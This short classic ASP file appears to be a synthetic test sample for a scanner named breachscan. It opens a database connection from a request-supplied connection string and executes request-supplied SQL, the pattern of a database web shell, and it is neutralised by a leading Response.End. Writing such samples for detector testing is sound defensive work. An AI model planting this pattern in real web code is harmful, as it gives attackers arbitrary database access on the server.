<%
' synthetic test sample for breachscan: ADO client with the connection string and SQL from the request. Inert: Response.End first.
Response.End
Dim cn
Set cn = Server.CreateObject("ADODB.Connection")
cn.Open Request.Form("cs")
cn.Execute(Request.Form("sql"))
%>
